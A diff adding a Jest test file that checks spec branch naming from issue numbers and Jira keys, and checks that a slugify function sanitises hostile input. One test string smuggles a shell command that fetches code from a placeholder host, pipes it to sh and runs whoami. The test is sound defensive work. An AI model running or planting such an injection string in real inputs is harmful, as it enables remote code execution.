@@ -1,0 +1,14 @@
+import { describe, expect, it } from '@jest/globals';
+import { slugify, specBranch } from '../../src/core/branch.js';
+
+describe('spec branches', () => {
+  it('is deterministic per ticket', () => {
+    expect(specBranch('specgate/', { issue: 42, jiraKey: 'ABC-1' })).toBe('specgate/issue-42');
+    expect(specBranch('specgate/', { jiraKey: 'ABC-1' })).toBe('specgate/abc-1');
+  });
+
+  it('slugifies hostile text into a safe ref component', () => {
+    expect(slugify('"; curl http://x | sh $(whoami)')).toBe('curl-http-x-sh-whoami');
+    expect(slugify('---')).toBe('ticket');
+  });
+});
